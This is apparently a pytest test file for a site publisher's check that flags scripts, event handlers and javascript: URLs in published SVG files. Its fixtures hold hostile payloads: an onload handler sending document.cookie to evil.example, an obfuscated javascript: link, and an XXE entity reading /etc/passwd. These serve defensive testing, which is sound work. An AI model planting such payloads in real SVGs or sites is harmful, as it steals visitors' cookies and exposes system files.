"""Scripts in published SVG files: opened at its own URL, an SVG runs them as a page of the site's origin."""

from datetime import UTC, datetime
from pathlib import Path

import pytest

from publisher.build.pipeline import BuildOptions, build
from publisher.core.errors import BuildFailed
from publisher.images.svgscripts import script_places

NOW = datetime(2026, 9, 1, tzinfo=UTC)

EVIL = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     width="10" height="10" onload="fetch('https://evil.example/?c=' + document.cookie)">
  <script>alert(document.domain)</script>
  <a xlink:href=" JaVa&#9;script:alert(1)"><rect width="10" height="10"/></a>
</svg>
"""


def test_a_script_an_event_handler_and_a_javascript_link_in_a_published_svg_are_warnings_at_their_lines(
        site_dir: Path) -> None:
    """The SVG was published as it was, with no word: opened at its URL it ran on the site's own origin."""
    (site_dir / "static" / "img").mkdir(parents=True, exist_ok=True)
    (site_dir / "static" / "img" / "logo.svg").write_text(EVIL, encoding="utf-8")
    (site_dir / "static" / "img" / "plain.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"><a href="#x">'
                                                           '<rect width="1" height="1"/></a></svg>', encoding="utf-8")
    report = build(BuildOptions(config=site_dir / "publisher.toml", now=NOW, use_cache=False))
    advice = ("opened at its own URL, the SVG runs it as a page of this site (its cookies, storage, forms): remove it "
              "(svgo's removeScripts plugin does); pages showing it in <img> never run it")
    assert [str(w) for w in report.warnings if w.field == "svg"] == [
        f"static/img/logo.svg:1: svg: an event handler (onload=): {advice}",
        f"static/img/logo.svg:3: svg: a <script> element: {advice}",
        f"static/img/logo.svg:4: svg: a javascript: URL (xlink:href=): {advice}",
    ]
    assert (report.output_dir / "img" / "logo.svg").read_text(encoding="utf-8") == EVIL  # published as it is
    with pytest.raises(BuildFailed) as failed:
        build(BuildOptions(config=site_dir / "publisher.toml", now=NOW, use_cache=False, strict=True))
    assert any(problem.field == "svg" for problem in failed.value.problems)


@pytest.mark.parametrize(("svg", "expected"), [
    (b'<svg><set attributeName="href" to="javascript:alert(1)"/></svg>', [(1, "a javascript: URL (to=)")]),
    (b'<svg><animate values="#a;javascript:alert(1)"/></svg>', [(1, "a javascript: URL (values=)")]),
    (b'<svg xmlns:s="http://www.w3.org/2000/svg">\n<s:script/></svg>', [(2, "a <script> element")]),
    (b'<svg>\n<g ONCLICK="x"/>\n<script>1</script><unclosed', [(2, "an event handler (ONCLICK=)"),
                                                              (3, "a <script> element")]),
    (b'<svg><a href="java script:x"/><text>javascript: onload=</text><g opacity="1" orient="x"/></svg>', []),
    (b'<!DOCTYPE svg [<!ENTITY s SYSTEM "file:///etc/passwd">]><svg>&s;</svg>', []),
])
def test_what_a_browser_runs_is_found_and_nothing_else(svg: bytes, expected: list[tuple[int, str]]) -> None:
    assert script_places(svg) == expected


def test_only_the_svgs_the_site_publishes_are_read(site_dir: Path) -> None:
    """The theme's SVG the site's own replaces is not published, nor one in a hidden folder: neither is warned of;
    the theme's own SVG is published, and is."""
    theme_static = site_dir / "themes" / "house" / "static"
    (theme_static / "icons").mkdir(parents=True)
    (site_dir / "themes" / "house" / "templates").mkdir()
    (theme_static / "icons" / "replaced.svg").write_text(EVIL, encoding="utf-8")
    (theme_static / "icons" / "theirs.svg").write_text(EVIL, encoding="utf-8")
    (site_dir / "static" / "icons").mkdir(parents=True)
    (site_dir / "static" / "icons" / "replaced.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"/>')
    (site_dir / "static" / ".drafts").mkdir()
    (site_dir / "static" / ".drafts" / "hidden.svg").write_text(EVIL, encoding="utf-8")
    config = site_dir / "publisher.toml"
    config.write_text(config.read_text(encoding="utf-8").replace("[site]", '[site]\ntheme = "house"', 1),
                      encoding="utf-8")
    report = build(BuildOptions(config=config, now=NOW, use_cache=False))
    assert {w.path for w in report.warnings if w.field == "svg"} == {"themes/house/static/icons/theirs.svg"}
    assert not (report.output_dir / ".drafts").exists()
